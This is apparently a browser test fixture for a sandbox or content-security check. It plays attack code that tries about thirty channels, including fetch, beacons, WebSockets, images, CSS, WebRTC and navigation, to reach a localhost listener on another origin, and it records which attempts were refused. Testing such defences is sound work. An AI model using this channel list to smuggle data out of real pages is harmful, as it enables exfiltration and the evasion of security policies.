// Attack code like code.js. It tries to reach a listener on another origin by every channel, or by the one named in ?only=.
const { searchParams } = new URL(location.href)
const listener = `http://127.0.0.1:${searchParams.get('port')}`
const udp = searchParams.get('udp')
const to = (channel) => `${listener}/${channel}`
const add = (tag, attributes, text = '') => {
  const element = document.createElement(tag)
  for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
  element.append(text)
  document.body.append(element)
  return element
}

// These leave the page or open another, so each has a page of its own.
const leaving = {
  location: () => location.assign(to('location')),
  refresh: () => document.head.append(add('meta', { 'http-equiv': 'refresh', content: `0;url=${to('refresh')}` })),
  form: () => add('form', { action: to('form'), method: 'post' }).submit(),
  'link click': () => add('a', { href: to('link-click') }).click(),
  'window.open': () => window.open(to('window.open')),
  // No channel: it lets the service worker answer from then on.
  install: () => navigator.serviceWorker.register('./sw.js'),
}
const staying = {
  fetch: () => fetch(to('fetch'), { mode: 'no-cors' }).catch(() => {}),
  XMLHttpRequest: () => {
    const request = new XMLHttpRequest()
    request.open('GET', to('XMLHttpRequest'))
    request.send()
  },
  sendBeacon: () => navigator.sendBeacon(to('sendBeacon'), 'x'),
  EventSource: () => new EventSource(to('EventSource')),
  WebSocket: () => new WebSocket(to('WebSocket').replace('http', 'ws')),
  ping: () => add('a', { href: '#ping', ping: to('ping') }).click(),
  img: () => add('img', { src: to('img') }),
  srcset: () => add('img', { srcset: `${to('srcset')} 1x` }),
  audio: () => add('audio', { src: to('audio'), preload: 'auto' }),
  video: () => add('video', { poster: to('video') }),
  script: () => add('script', { src: to('script') }),
  import: () => import(to('import')).catch(() => {}),
  iframe: () => add('iframe', { src: to('iframe') }),
  object: () => add('object', { data: to('object') }),
  embed: () => add('embed', { src: to('embed') }),
  stylesheet: () => add('link', { rel: 'stylesheet', href: to('stylesheet') }),
  prefetch: () => add('link', { rel: 'prefetch', href: to('prefetch') }),
  preload: () => add('link', { rel: 'preload', as: 'image', href: to('preload') }),
  modulepreload: () => add('link', { rel: 'modulepreload', href: to('modulepreload') }),
  'css url': () => (add('p', {}, 'x').style.backgroundImage = `url(${to('css-url')})`),
  'css import': () => add('style', {}, `@import url(${to('css-import')});`),
  'css font': () => new FontFace('x', `url(${to('css-font')})`).load().catch(() => {}),
  WebRTC: () => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${udp}` }] })
    peer.createDataChannel('x')
    return peer.createOffer().then((offer) => peer.setLocalDescription(offer))
  },
}

const only = searchParams.get('only')
const acts = only ? [[only, leaving[only]]] : Object.entries(staying)
for (const [, act] of acts) {
  try {
    await act()
  } catch {
    // Refused, which is the point.
  }
}
document.documentElement.dataset.tried = JSON.stringify(acts.map(([name]) => name))
